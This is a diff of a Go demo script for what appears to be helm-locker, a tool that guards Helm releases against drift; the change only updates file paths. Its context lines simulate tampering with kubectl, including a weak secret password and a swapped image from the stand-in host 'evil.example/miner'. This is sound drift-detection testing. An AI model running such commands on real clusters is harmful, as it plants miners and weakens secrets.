@@ -17,7 +17,7 @@ import (
 	"syscall"
 	"time"
 
-	"github.com/rancher/helm-locker/tests/cluster"
+	"github.com/rancher/helm-locker/tests/lib/cluster"
 )
 
 // patience is how long a picture may take. The demo runs for half a minute on an idle machine.
@@ -130,7 +130,7 @@ func (s *studio) do(ctx context.Context, commands string) error {
 
 // shop takes the pictures of the commands.
 func (s *studio) shop(ctx context.Context, wanted func(string) bool) error {
-	err := s.do(ctx, `helm install shop tests/demo/charts/shop --namespace apps --create-namespace
+	err := s.do(ctx, `helm install shop tests/cmd/demo/charts/shop --namespace apps --create-namespace
 kubectl -n apps patch configmap shop --type=merge -p '{"data":{"greeting":"Closed"}}'
 kubectl -n apps patch secret shop --type=merge -p '{"stringData":{"password":"12345"}}'
 kubectl -n apps set image deployment/shop-web web=evil.example/miner
@@ -157,7 +157,7 @@ kubectl -n apps set image deployment/shop-web web=evil.example/miner; drift 5
 kubectl -n apps scale deployment/shop-web --replicas=0; drift 6
 kubectl -n apps delete service shop-web; drift 7
 kubectl -n apps patch secret shop --type=merge -p '{"stringData":{"password":"12345"}}'; drift 8
-helm upgrade shop tests/demo/charts/shop -n apps --set greeting=Hello
+helm upgrade shop tests/cmd/demo/charts/shop -n apps --set greeting=Hello
 kubectl -n cattle-helm-system wait hlr/shop --for=jsonpath='{.status.revision}'=2 --timeout=60s
 kubectl -n apps label ingress/shop app.kubernetes.io/managed-by-; drift 9
 helm-locker suspend shop -n apps --for 30m --reason "load test"`)
